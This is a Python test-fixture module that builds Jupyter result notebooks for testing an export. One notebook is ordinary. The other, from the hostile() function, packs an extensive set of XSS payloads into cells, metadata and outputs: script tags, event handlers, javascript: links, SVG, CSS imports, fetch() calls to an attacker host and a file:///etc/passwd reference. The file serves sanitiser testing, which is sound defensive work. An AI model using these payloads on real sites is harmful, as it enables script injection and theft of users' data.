"""Result notebooks for the tests of the export: an honest one, and what somebody who means harm makes of it."""

from __future__ import annotations

import base64
import json
from typing import Any

from opensafely_lab.disclosure.outcome import REDACTED, Outcome, ShownTable, Treatment, Verdict
from opensafely_lab.notebooks.result import FIGURE_MIME, HELD_MIME, TABLE_MIME, Banner, Level, build
from opensafely_lab.notebooks.source import SubmittedNotebook
from opensafely_lab.wire.site import Layout

# One grey pixel.
PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAAAAAA6fptVAAAACklEQVR4nGNoAAAAggCBd81ytgAAAABJRU5ErkJggg==")
TABLE = ShownTable(
    ("age", "sex", "count"),
    2,
    (
        ("under 50", "female", "120"),
        ("under 50", "male", REDACTED),
        ("under 50", "All", "120"),
        ("50 & over <b>", "female", "45"),
        ("All", "All", "165"),
    ),
    total_rows=(2, 4),
)
MARKDOWN = """# How many bled

By **age**, see [the protocol](https://example.org/protocol).

| a | b |
|---|---|
| 1 | 2 |
"""


def result(level: Level = "dummy", markdown: str = MARKDOWN, code: str = "safe.table(data)  # ask") -> bytes:
    """As `run --out` writes it."""
    cells = [
        {"cell_type": "markdown", "source": markdown, "metadata": {}},
        {"cell_type": "code", "source": code, "metadata": {}, "outputs": [], "execution_count": None},
        {"cell_type": "raw", "source": "raw <b>text</b>", "metadata": {}},
    ]
    outcomes = [
        Outcome(0, "people who bled", "table", 1, Verdict.VERIFIED, Treatment.HIDDEN, "One cell is hidden.", TABLE),
        Outcome(
            1, "bars", "figure", 1, Verdict.VERIFIED, Treatment.HIDDEN, "Drawn from the table.", TABLE, figure=PIXEL
        ),
    ]
    return build(
        SubmittedNotebook.parse(json.dumps({"cells": cells, "metadata": {}, "nbformat": 4}).encode()),
        parameters={"drug": "<i>any</i>", "bands": [50, 70], "adults": True},
        outcomes=outcomes,
        layout=Layout(outputs=[1], execution_counts={1: 3}),
        banner=Banner(level, "bleeding", "analysis/a.ipynb", "opensafely", commit="c" * 40),
    )


def changed(data: bytes, *path: Any, to: object) -> bytes:
    """The notebook with one place of its JSON changed."""
    document = json.loads(data)
    place = document
    for step in path[:-1]:
        place = place[step]
    place[path[-1]] = to
    return json.dumps(document).encode()


def hostile(evil: str) -> bytes:
    """Every trick of threats.md, section 3: each sets `window.pwned`, calls `evil`, or reads a file."""
    run = f"window.pwned=1;fetch('{evil}/script')"
    svg = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{run}"><image href="{evil}/svg"/></svg>'
    svg64 = base64.b64encode(svg.encode()).decode()
    markup = f"""
<script>{run}</script><script src="{evil}/src.js"></script><img src=x onerror="{run}"><img src="{evil}/img.png">
{svg}<svg><style>@import url({evil}/svgcss)</style><a xlink:href="javascript:{run}"><text>t</text></a></svg>
<iframe srcdoc="<script>parent.pwned=1</script>"></iframe><iframe src="{evil}/frame"></iframe>
<object data="{evil}/object"></object><embed src="{evil}/embed"><link rel=stylesheet href="{evil}/style.css">
<style>body{{background:url({evil}/css-a)}} @import url({evil}/css-b);</style>
<p style="background:url({evil}/css-c)" class="osl-banner" id="main">styled</p>
<a href="javascript:{run}">a link</a><a href="{evil}/followed" ping="{evil}/ping">another</a>
<form action="{evil}/form"><input name=q autofocus onfocus="{run}"><button>go</button></form>
<video src="{evil}/video" autoplay poster="{evil}/poster"></video><audio src="{evil}/audio" autoplay></audio>
<base href="{evil}/base/"><meta http-equiv="refresh" content="0;url={evil}/refresh">
<picture><source srcset="{evil}/set"><img src="{evil}/i2" srcset="{evil}/set2"></picture>
<img src="data:image/svg+xml;base64,{svg64}"><img src="data:text/html,<script>{run}</script>">
<img src="file:///etc/passwd"><img src="//{evil.removeprefix("http://")}/schemeless">
<table background="{evil}/back"><tr><td background="{evil}/td">cell</td></tr></table>
<math><mtext><table><mglyph><style><img src onerror="{run}"></style></mglyph></table></mtext></math>
<noscript><p title="</noscript><img src=x onerror='{run}'>"></noscript>
<template><img src="{evil}/template"></template><div style="display:none">invisible</div><!-- comment -->
"""
    markdown = f"""# hostile

![passwd](../../etc/passwd) ![abs](/etc/passwd) ![remote]({evil}/md.png) ![att](attachment:p.png)
![x" onerror="{run}]({evil}/alt.png "t" onerror="x") [x](javascript:{run}) [y](data:text/html,x) <{evil}/auto>
[a][ref] ![b][ref]

[ref]: {evil}/reference

```mermaid
flowchart
 a-->b</pre><script>{run}</script>
```

```"><script>{run}</script>
x
```

$$</script><script>{run}</script>$$ $<img src=x onerror={run}>$

{markup}
"""
    data = result(markdown=markdown, code=f"{markup}\n'</pre><script>{run}</script>'")
    document = json.loads(data)
    cell = document["cells"][2]
    cell["attachments"] = {"p.png": {"image/svg+xml": svg, "image/png": svg64}}
    document["cells"][3]["id"] = markup[:60]
    document["metadata"]["widgets"] = {"state": {"evil": {"_esm": run}}}
    document["metadata"]["opensafely"] |= {"action": markup, "title": markup, "meaning": markup, "parameters": {}}
    document["metadata"]["opensafely"]["parameters"][markup] = markup
    said = {"version": 1, "name": markup, "sentence": markup, "verdict": markup, "treatment": markup, "level": "dummy"}
    table = {**said, "columns": [markup, "n"], "label_columns": 1, "rows": [[markup, markup]], "total_rows": [0]}
    png = base64.b64encode(PIXEL + run.encode()).decode()
    tricks: list[dict[str, object]] = [
        {TABLE_MIME: table, "text/html": markup},
        {FIGURE_MIME: said, "image/png": png},
        {HELD_MIME: {"sentence": markup, "next_step": markup}},
        {"text/html": markup},
        {"image/svg+xml": svg},
        {"application/javascript": run},
        {"text/markdown": markdown},
        {"application/vnd.vegalite.v5+json": {"data": {"url": f"{evil}/vega"}}},
        {"image/png": "no figure goes with it"},
    ]
    document["cells"][3]["outputs"] = [
        *({"output_type": "display_data", "data": data, "metadata": {markup: markup}} for data in tricks),
        {"output_type": "execute_result", "data": {"text/html": markup}, "metadata": {}, "execution_count": 1},
        {"output_type": "stream", "name": "stdout", "text": [markup]},
        {"output_type": "error", "ename": markup, "evalue": markup, "traceback": [markup]},
    ]
    return json.dumps(document).encode()
